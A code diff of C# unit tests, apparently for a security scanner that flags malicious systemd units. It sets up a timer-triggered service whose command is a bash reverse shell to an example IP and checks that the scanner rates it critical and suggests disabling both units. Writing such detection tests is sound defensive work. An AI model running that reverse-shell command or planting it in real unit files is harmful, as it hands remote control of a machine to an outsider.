@@ -32,11 +32,14 @@ public sealed class ServiceTests
     }
 
     [Fact]
-    public void A_timer_makes_its_service_live()
+    public void A_timer_makes_its_service_live_and_is_where_it_is_started()
     {
         Case host = Case.Debian().Unit(Dir + "a.service", "a.service", "bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'")
             .Unit(Dir + "a.timer", "a.timer", null, settings: [("Timer", "OnCalendar", "*:*:00")]).Enable("a.timer", Dir + "a.timer");
-        Assert.Equal(Severity.Critical, Only(host, "L-UNIT.reverse-shell").Severity);
+        Finding shell = Only(host, "L-TIMER.reverse-shell");
+        Assert.Equal(Severity.Critical, shell.Severity);
+        Assert.Contains("systemctl disable --now -- a.service", shell.Remediation);
+        Assert.Contains("systemctl disable --now -- a.timer", shell.Remediation);
         Assert.Equal(Severity.Low, Only(host, "L-TIMER.fires-constantly").Severity);
     }
 
